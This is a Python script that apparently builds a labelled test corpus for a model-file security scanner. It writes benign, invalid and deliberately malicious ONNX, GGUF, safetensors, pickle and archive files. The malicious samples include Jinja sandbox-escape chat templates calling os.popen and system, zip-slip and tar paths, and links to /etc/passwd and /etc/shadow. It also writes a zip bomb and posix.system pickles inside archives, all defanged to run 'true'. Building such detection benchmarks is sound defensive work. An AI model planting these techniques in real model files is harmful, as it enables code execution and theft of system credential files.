def _onnx_model(initializer: object) -> object:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])
    node = helper.make_node("MatMul", ["x", "W"], ["y"])
    graph = helper.make_graph([node], "g", [x], [y], initializer=[initializer])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="anzhi-bench")


def onnx_files(c: Corpus) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, numpy_helper

    w = numpy_helper.from_array(np.arange(4, dtype=np.float32).reshape(2, 2), name="W")
    model = _onnx_model(w)
    onnx.checker.check_model(model)
    c.write("onnx/matmul.onnx", model.SerializeToString(), "benign", "onnx", "onnx_embedded_weights",
            f"onnx {onnx.__version__}")
    from onnx import helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])
    node = helper.make_node("FusedMatMul", ["x", "W"], ["y"], domain="com.microsoft", alpha=1.0)
    graph = helper.make_graph([node], "g", [x], [y], initializer=[w])
    ms = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1)],
                           producer_name="onnxruntime.transformers")
    c.write("onnx/ms_domain.onnx", ms.SerializeToString(), "benign", "onnx", "onnx_com_microsoft_domain",
            "com.microsoft FusedMatMul, as onnxruntime's optimizer writes")
    ext_dir = c.path("onnx/external_ok/model.onnx").parent
    big = numpy_helper.from_array(np.arange(4, dtype=np.float32).reshape(2, 2), name="W")
    onnx.save_model(_onnx_model(big), str(ext_dir / "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="model.onnx.data", size_threshold=0)
    onnx.checker.check_model(str(ext_dir / "model.onnx"))
    c.add("onnx/external_ok/model.onnx", "benign", "onnx", "onnx_external_data_sibling",
          "external data in model.onnx.data next to the model")
    c.add("onnx/external_ok/model.onnx.data", "benign", "raw", "onnx_external_data_blob", "raw float32 bytes")

    for rel, location, tech in [
        ("onnx/traversal/model.onnx", "../../etc/passwd", "onnx_external_data_traversal"),
        ("onnx/absolute/model.onnx", "/etc/passwd", "onnx_external_data_absolute"),
    ]:
        t = TensorProto()
        t.name, t.data_type = "W", TensorProto.FLOAT
        t.dims.extend([2, 2])
        t.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = t.external_data.add()
            entry.key, entry.value = key, value
        c.write(rel, _onnx_model(t).SerializeToString(), "malicious", "onnx", tech,
                f"initializer W external_data location={location}")


# --------------------------------------------------------------------------------------------- GGUF

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim"
    " + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + "
    "'\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% endif %}{% endfor %}"
)
TOOLS_TEMPLATE = (  # Llama-3.1 / Qwen-style: namespace, tools, tojson, tool_calls, strftime_now
    "{%- set ns = namespace(system='') -%}{%- if messages[0]['role'] == 'system' -%}"
    "{%- set ns.system = messages[0]['content'] -%}{%- endif -%}"
    "{%- if not date_string is defined -%}{%- set date_string = strftime_now('%d %b %Y') -%}{%- endif -%}"
    "{{- bos_token + '<|start_header_id|>system<|end_header_id|>\n\n' -}}"
    "{%- if tools is not none -%}{{- 'You can call these tools:\n' -}}"
    "{%- for t in tools -%}{{- t | tojson(indent=2) + '\n' -}}{%- endfor -%}{%- endif -%}"
    "{{- 'Today: ' + date_string + '\n' + ns.system + '<|eot_id|>' -}}"
    "{%- for message in messages if message['role'] != 'system' -%}"
    "{%- if message.tool_calls is defined and message.tool_calls -%}"
    "{%- for call in message.tool_calls -%}{{- '<tool_call>' + call.function.name + ' ' + "
    "call.function.arguments | tojson + '</tool_call>' -}}{%- endfor -%}"
    "{%- else -%}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n' + "
    "message['content'] | trim + '<|eot_id|>' -}}{%- endif -%}{%- endfor -%}"
    "{%- if add_generation_prompt -%}{{- '<|start_header_id|>assistant<|end_header_id|>\n\n' -}}{%- endif -%}"
)
# Harmless SSTI payloads: each would only list classes / read attributes / run `true`.
SSTI = [
    ("gguf_ssti_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}" + CHATML_TEMPLATE),
    ("gguf_ssti_globals_popen", CHATML_TEMPLATE
     + "{{ cycler.__init__.__globals__.os.popen('true').read() }}"),
    ("gguf_ssti_attr_filter", "{% set x = ''|attr('__cla' ~ 'ss__') %}{{ x|attr('__base__')|attr('__subcla'"
     " ~ 'sses__')() }}" + LLAMA3_TEMPLATE),
    ("gguf_ssti_builtins_import", "{% for m in messages %}{{ m.content }}{% endfor %}"
     "{{ self._TemplateReference__context.joiner.__init__.__globals__.__builtins__.__import__('os')"
     ".system('true') }}"),
]


def gguf_files(c: Corpus) -> None:
    import gguf
    import numpy as np

    def write(rel: str, template: str | None, label: str, tech: str, note: str) -> None:
        path = c.path(rel)
        w = gguf.GGUFWriter(str(path), arch="llama")
        w.add_name("anzhi-bench-tiny")
        w.add_context_length(128)
        w.add_block_count(1)
        w.add_tokenizer_model("gpt2")
        if template is not None:
            w.add_chat_template(template)
        w.add_tensor("token_embd.weight", np.full((8, 4), 0.5, dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        c.add(rel, label, "gguf", tech, note)

    note = f"written with gguf {importlib.metadata.version('gguf')}"
    write("gguf/llama3.gguf", LLAMA3_TEMPLATE, "benign", "gguf_chat_template_llama3", note)
    write("gguf/chatml.gguf", CHATML_TEMPLATE, "benign", "gguf_chat_template_chatml", note)
    write("gguf/mistral.gguf", MISTRAL_TEMPLATE, "benign", "gguf_chat_template_mistral_raise", note)
    write("gguf/tools_namespace.gguf", TOOLS_TEMPLATE, "benign", "gguf_chat_template_tools_namespace", note)
    write("gguf/no_template.gguf", None, "benign", "gguf_no_template", note)
    for tech, tmpl in SSTI:
        write(f"gguf/{tech.removeprefix('gguf_')}.gguf", tmpl, "malicious", tech, "chat template Jinja sandbox escape")


# --------------------------------------------------------------------------------------- safetensors


def _st(header: dict, body: bytes) -> bytes:
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + body


def safetensors_files(c: Corpus) -> None:
    import numpy as np
    import safetensors
    from safetensors.numpy import save

    rs = np.random.RandomState(c.seed)
    c.write("safetensors/model.safetensors",
            save({"embed.weight": rs.rand(16, 8).astype(np.float32), "head.bias": np.zeros(8, dtype=np.float16),
                  "steps": np.arange(4, dtype=np.int64)}, metadata={"format": "pt"}),
            "benign", "safetensors", "safetensors_valid", f"safetensors {safetensors.__version__}")
    c.write("safetensors/single.safetensors", save({"w": np.ones((2, 2), dtype=np.float32)}), "benign",
            "safetensors", "safetensors_valid_single")
    body = b"\x00" * 16
    c.write("safetensors/overlapping.safetensors",
            _st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                 "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
                 "c": {"dtype": "F32", "shape": [1], "data_offsets": [12, 16]}}, body),
            # safetensors carries no code: a header that breaks the format is an invalid file (the reference
            # loader refuses both of these), not a payload.
            "invalid", "safetensors", "safetensors_overlapping_offsets", "tensors a and b share bytes 4..8")
    c.write("safetensors/out_of_bounds.safetensors",
            _st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                 "b": {"dtype": "F32", "shape": [1048576], "data_offsets": [16, 4194320]}}, body),
            "invalid", "safetensors", "safetensors_out_of_bounds", "b ends 4 MiB past the end of the file")


# ------------------------------------------------------------------------------------------- archives


def _targz(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, payload in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(payload), 0
            tf.addfile(info, io.BytesIO(payload))
    return gzip.compress(buf.getvalue(), mtime=0)


def archive_files(c: Corpus) -> None:
    import numpy as np
    from safetensors.numpy import save

    weights = save({"w": np.ones((4, 4), dtype=np.float32)})
    config = json.dumps({"architectures": ["TinyModel"], "hidden_size": 4}).encode()
    c.write("archive/model_bundle.zip", _zip_bytes([("model/config.json", config),
                                                    ("model/model.safetensors", weights)], zipfile.ZIP_DEFLATED),
            "benign", "zip", "zip_benign_bundle", "config.json + safetensors")
    c.write("archive/model_bundle.tar.gz",
            _targz([("model/config.json", config), ("model/model.safetensors", weights)]),
            "benign", "tar", "tar_benign_bundle")

    c.write("archive/dots_in_names.zip", _zip_bytes([("model/v1..v2/config.json", config),
                                                     ("model/..hidden.safetensors", weights)]),
            "benign", "zip", "zip_dots_not_traversal", "member names with '..' inside a name, no traversal")
    c.write("archive/zip_slip.zip", _zip_bytes([("model/config.json", config),
                                               ("../../anzhi-bench-zip-slip.txt", b"harmless\n")]),
            "malicious", "zip", "zip_path_traversal", "member ../../anzhi-bench-zip-slip.txt")

    def tar_with(members: list[tarfile.TarInfo], payloads: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
            for info in members:
                info.mtime = 0
                data = payloads.get(info.name)
                tf.addfile(info, io.BytesIO(data) if data is not None else None)
        return buf.getvalue()

    absolute = tarfile.TarInfo("/tmp/anzhi-bench-absolute.txt")
    absolute.size = 9
    ok = tarfile.TarInfo("model/config.json")
    ok.size = len(config)
    c.write("archive/absolute_path.tar", tar_with([ok, absolute], {absolute.name: b"harmless\n", ok.name: config}),
            "malicious", "tar", "tar_absolute_path", "member /tmp/anzhi-bench-absolute.txt")
    link = tarfile.TarInfo("model/weights.bin")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    ok2 = tarfile.TarInfo("model/config.json")
    ok2.size = len(config)
    c.write("archive/symlink.tar", tar_with([ok2, link], {ok2.name: config}), "malicious", "tar", "tar_symlink",
            "model/weights.bin -> /etc/passwd")
    hard = tarfile.TarInfo("model/tokenizer.json")
    hard.type, hard.linkname = tarfile.LNKTYPE, "../../../etc/shadow"
    c.write("archive/hardlink.tar", tar_with([hard], {}), "malicious", "tar", "tar_hardlink_traversal",
            "hard link to ../../../etc/shadow")
    # Zip bomb: 64 MiB of zeros, deflated to ~64 KiB on disk (ratio ~1000).
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        info = zipfile.ZipInfo("weights/shard.dat", date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w") as member:
            chunk = b"\x00" * (1 << 20)
            for _ in range(64):
                member.write(chunk)
    c.write("archive/zip_bomb.zip", bomb.getvalue(), "malicious", "zip", "zip_bomb_ratio",
            "one member, 64 MiB of zeros, ratio ~1000")
    # Containers of a malicious pickle.
    payload = PROTO(2) + SYSTEM_TRUE_P2 + STOP
    c.write("archive/pickle_in_zip.zip", _zip_bytes([("model/model.pkl", payload)], zipfile.ZIP_DEFLATED),
            "malicious", "zip", "zip_member_pickle", "zip with a posix.system .pkl member")
    c.write("archive/pickle_in_tar.tar.gz",
            _targz([("model/config.json", config), ("model/pytorch_model.bin", payload)]),
            "malicious", "tar", "tar_member_pickle",
            "tar.gz with a posix.system pytorch_model.bin member")
    inner_zip = _zip_bytes([("inner/model.pkl", payload)])
    c.write("archive/nested_zip.zip", _zip_bytes([("outer/inner.zip", inner_zip)]), "malicious", "zip",
            "zip_nested_pickle", "zip in a zip, inner holds a posix.system .pkl")


# -------------------------------------------------------------------------------------------- invalid


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def invalid_files(c: Corpus) -> None:
    import numpy as np
    from safetensors.numpy import save

    benign = pickle.dumps({"weights": list(range(50)), "name": "x" * 40}, protocol=4)
    c.write("invalid/truncated.pkl", benign[: len(benign) // 2], "invalid", "pickle", "pickle_truncated",
            "first half of a benign protocol-4 pickle")
    c.write("invalid/random.bin", bytes(c.rng.getrandbits(8) for _ in range(4096)), "invalid", "unknown",
            "random_bytes_bin", f"4096 random bytes (seed {c.seed})")
    c.write("invalid/image.pt", _png(), "invalid", "png", "png_named_pt", "a valid 2x2 PNG named .pt")
    st = save({"w": np.ones((4, 4), dtype=np.float32)})
    c.write("invalid/truncated_header.safetensors", st[:40], "invalid", "safetensors", "safetensors_truncated_header",
            "header length says more than the file holds")
    c.write("invalid/empty.pkl", b"", "invalid", "unknown", "empty_file", "0 bytes")
    torch_like = _zip_bytes([("archive/data.pkl", pickle.dumps({"a": 1}, protocol=2)), ("archive/version", b"3\n")])
    c.write("invalid/truncated_zip.pt", torch_like[: len(torch_like) // 2], "invalid", "pytorch-zip",
            "zip_truncated", "torch-style zip cut in half (no central directory)")
    c.write("invalid/gguf_bad_header.gguf", b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", 1 << 40, 1 << 40),
            "invalid", "gguf", "gguf_truncated", "GGUF header claiming 2^40 tensors and KVs, then EOF")


# ----------------------------------------------------------------------------------------------- main


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out_dir", type=Path)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--force", action="store_true", help="remove OUT_DIR first if it exists")
    args = parser.parse_args(argv)
    root: Path = args.out_dir
    if root.exists() and any(root.iterdir()):
        if not args.force:
            parser.error(f"{root} exists and is not empty (use --force to replace it)")
        shutil.rmtree(root)
    root.mkdir(parents=True, exist_ok=True)
    c = Corpus(root, args.seed)
    for build in (malicious_pickles, benign_pickles, torch_files, numpy_files, sklearn_files, keras_files, onnx_files,
                  gguf_files, safetensors_files, archive_files, invalid_files):
        build(c)
    c.save_labels()
    counts: dict[str, int] = {}
    for e in c.entries:
        counts[e.label] = counts.get(e.label, 0) + 1
    print(f"wrote {len(c.entries)} files to {root}: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
